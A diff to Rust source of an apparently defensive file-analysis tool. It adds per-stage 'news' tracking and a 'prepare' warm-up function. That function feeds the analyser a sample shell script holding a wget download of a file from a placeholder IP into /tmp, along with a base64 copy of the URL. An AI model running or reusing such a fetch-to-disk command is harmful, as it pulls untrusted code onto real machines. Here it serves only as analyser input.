@@ -39,9 +39,11 @@ pub fn analyze_with(
     let mut work = Work::new(bytes, now, limits, rules);
     let stages = stages();
     for (index, (name, stage)) in stages.iter().enumerate() {
+        let before = work.amounts();
         stage(&mut work);
         work.publish(Some(stages.get(index + 1).map_or("members", |(next, _)| *next)));
-        emit(Stage { name, so_far: &work.analysis });
+        let news = work.amounts() != before;
+        emit(Stage { name, news, so_far: &work.analysis });
     }
     // Members one after the other. What is known is handed out after the first, second,
     // fourth, eighth ..., so that one that crashes the parser takes little with it.
@@ -50,12 +52,20 @@ pub fn analyze_with(
         done += 1;
         if done.is_power_of_two() && !work.pending.is_empty() {
             work.publish(Some("members"));
-            emit(Stage { name: "member", so_far: &work.analysis });
+            emit(Stage { name: "member", news: true, so_far: &work.analysis });
         }
     }
     work.publish(None);
-    emit(Stage { name: "members", so_far: &work.analysis });
+    emit(Stage { name: "members", news: true, so_far: &work.analysis });
     work.analysis
+}
+
+/// Makes all tables that are otherwise made at their first use: for a process that forks, so
+/// that its children find them there.
+pub fn prepare(rules: Option<&Rules>) {
+    config::prepare();
+    let text = b"#!/bin/sh\nwget http://192.0.2.1/a -O /tmp/a; echo aHR0cDovLzE5Mi4wLjIuMS9h\n";
+    analyze_with(text, Timestamp::default(), &Limits::default(), rules, &mut |_| ());
 }
 
 /// The bytes of one of the members that an analysis lists; none if there is no such.
@@ -162,6 +172,27 @@ impl<'a> Work<'a> {
 }
 
 impl Work<'_> {
+    /// How much is known: nothing is ever taken back.
+    fn amounts(&self) -> [usize; 9] {
+        let known = &self.analysis;
+        let about = [
+            known.file_type.is_some(),
+            known.hashes.is_some(),
+            known.elf.is_some() || known.pe.is_some(),
+        ];
+        [
+            about.into_iter().filter(|it| *it).count(),
+            known.strings.len(),
+            known.commands.len(),
+            known.configurations.len(),
+            known.yara.len(),
+            known.members.len(),
+            known.notes.len(),
+            self.finds.list.len(),
+            self.artefacts.list.len(),
+        ]
+    }
+
     /// Puts what is known into the result; `next` is what is still to be done.
     fn publish(&mut self, next: Option<&str>) {
         self.analysis.observables.clone_from(&self.finds.list);
